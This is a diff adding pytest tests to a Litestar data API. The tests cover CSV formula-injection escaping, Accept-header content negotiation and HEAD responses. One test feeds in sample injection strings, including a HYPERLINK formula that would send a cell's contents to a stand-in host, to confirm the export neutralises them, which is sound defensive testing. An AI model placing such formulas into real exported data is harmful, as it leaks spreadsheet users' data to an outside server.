@@ -14,6 +14,7 @@ import pytest
 from litestar import Litestar
 from litestar.testing import TestClient
 
+from nexus_data.api.accepting import best
 from nexus_data.api.aggregate_documents import ByCategory, ByDay, BySymbol
 from nexus_data.api.operation_documents import OneOperation, Operations
 from nexus_data.api.project_documents import OneProject, ProjectMilestones
@@ -206,6 +207,53 @@ def test_the_same_rows_as_csv_and_as_arrow(ask: Any, publish: Publish) -> None:
     assert table.schema.field("date").type == pa.date32()
     (found,) = [one for one in table.to_pylist() if one["operation_id"] == str(UUID(int=80))]
     assert (found["last_px"], found["date"]) == (exact["last_px"], exact["date"])
+
+
+def test_no_cell_of_csv_is_carried_out_by_a_spreadsheet(ask: Any, publish: Publish) -> None:
+    texts = ['=HYPERLINK("http://a.example/?"&A1)', "@SUM(A1)", "-2+3", "+1 555", "\t=1+1", "a=b", "-5.25", "+31"]
+    publish(1, trading_operations=[operation(n, description=text) for n, text in enumerate(texts)])
+    plain = [one["description"] for one in ask(OPERATIONS).json()["operations"]]
+    answer = ask(OPERATIONS, accept="text/csv")
+    told = [one["description"] for one in csv.DictReader(io.StringIO(answer.text))]
+    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
+    assert told == [text if text in ("a=b", "-5.25", "+31") else f"'{text}" for text in plain]
+    assert sorted(plain) == sorted(texts)
+
+
+@pytest.mark.parametrize(
+    ("accept", "form"),
+    [
+        ("*/*", "json"),
+        ("text/html, */*;q=0.1", "json"),
+        ("text/csv, */*", "csv"),
+        ("text/csv;q=0.1, application/json;q=0.9", "json"),
+        ("TEXT/CSV; header=present", "csv"),
+        ("text/*", "csv"),
+        ("application/*;q=0.5, text/csv;q=0.4", "json"),
+        ("application/json;q=0, text/csv", "csv"),
+        ("application/json;q=0, */*", "csv"),
+        ("application/json;q=0", None),
+        ("text/csv;q=0, image/png", None),
+        ("nonsense", None),
+        ("text/csv;q=much", "csv"),
+        (",", None),
+    ],
+)
+def test_the_form_is_the_one_that_is_liked_best(accept: str, form: str | None) -> None:
+    forms = {"json": "application/json", "csv": "text/csv", "arrow": "application/vnd.apache.arrow.stream"}
+    assert best(accept, list(forms.values())) == (forms[form] if form else None)
+
+
+def test_head_is_get_without_the_body(client: TestClient[Litestar], token: Token, publish: Publish) -> None:
+    publish(1, **platform())
+    ada = token("ada")
+    for path in (f"{API}/projects/dashboard", f"{OPERATIONS}?limit=1", "/api/docs", "/health/live"):
+        whole, head = client.get(path, headers=ada), client.head(path, headers=ada)
+        assert (head.status_code, head.content) == (200, b"")
+        told = ("ETag", "Content-Length", "Content-Type", "X-Data-Generation", "Cache-Control")
+        assert [head.headers.get(name) for name in told] == [whole.headers.get(name) for name in told]
+    assert client.head(f"{API}/projects/dashboard").status_code == 401
+    assert client.head(f"{API}/events", headers=ada).status_code == 405
 
 
 def test_the_next_page_of_csv_is_linked(ask: Any, client: Any, token: Token, publish: Publish) -> None:
